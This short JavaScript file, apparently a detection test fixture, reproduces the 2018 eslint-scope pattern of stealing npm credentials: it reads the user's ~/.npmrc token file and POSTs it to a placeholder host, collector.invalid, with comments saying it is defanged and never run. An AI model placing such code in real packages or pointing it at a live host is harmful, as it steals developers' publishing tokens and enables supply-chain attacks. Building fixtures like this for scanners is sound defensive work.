// Mimics the eslint-scope 2018 style .npmrc stealer written without a request variable: the
// token is read from os.homedir() + '/.npmrc' and written by `.end()` chained on the request.
// Defanged: .invalid host, never run by tests.
const fs = require('fs');
const os = require('os');
const https = require('https');
const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
https.request({ hostname: 'collector.invalid', method: 'POST', path: '/t' }).end(token);
